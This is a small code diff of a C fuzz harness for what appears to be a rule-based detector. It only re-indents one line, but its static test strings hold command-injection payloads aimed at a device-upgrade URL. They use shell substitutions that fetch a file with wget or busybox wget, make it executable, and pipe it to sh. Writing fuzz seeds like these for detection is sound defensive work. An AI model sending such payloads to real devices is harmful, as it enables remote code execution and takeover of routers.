@@ -13,7 +13,7 @@ LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
 {
 	static const char uri[] = "/ctrlt/deviceupgrade_1?a=$(wget http://x/b;chmod 777 b)";
 	static const char head[] = "post /ctrlt/deviceupgrade_1 http/1.1\r\nhost: 10.0.0.1\r\n"
-				   "cookie: uid=1\r\ncontent-length: 40\r\n\r\n";
+	                           "cookie: uid=1\r\ncontent-length: 40\r\n\r\n";
 	static const char body[] = "<newstatusurl>$(/bin/busybox wget -g x -r y)|sh curl";
 	struct rules rs;
 	struct mamori_diag d;
